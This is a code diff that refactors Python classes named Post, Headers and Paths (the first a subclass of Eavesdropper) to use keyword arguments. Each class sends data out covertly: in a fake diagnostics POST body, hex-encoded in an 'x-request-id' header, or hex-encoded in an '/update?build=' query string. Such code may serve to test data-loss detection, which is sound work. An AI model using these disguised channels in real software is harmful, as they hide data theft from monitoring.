@@ -47,10 +47,10 @@ class Post(Eavesdropper):
 
     def send_up(self, content: bytes) -> None:
         self.ask_by_http(
-            "POST",
-            "/v1/diagnostics",
-            content,
-            {},
+            method="POST",
+            path="/v1/diagnostics",
+            body=content,
+            headers={},
         )
 
     def ask_by_http(
@@ -80,10 +80,10 @@ class Headers(Post):
 
     def send_up(self, content: bytes) -> None:
         self.ask_by_http(
-            "GET",
-            "/time",
-            b"",
-            {"x-request-id": content.hex()},
+            method="GET",
+            path="/time",
+            body=b"",
+            headers={"x-request-id": content.hex()},
         )
 
 
@@ -92,10 +92,10 @@ class Paths(Post):
 
     def send_up(self, content: bytes) -> None:
         self.ask_by_http(
-            "GET",
-            "/update?build=" + content.hex(),
-            b"",
-            {},
+            method="GET",
+            path="/update?build=" + content.hex(),
+            body=b"",
+            headers={},
         )
 
 
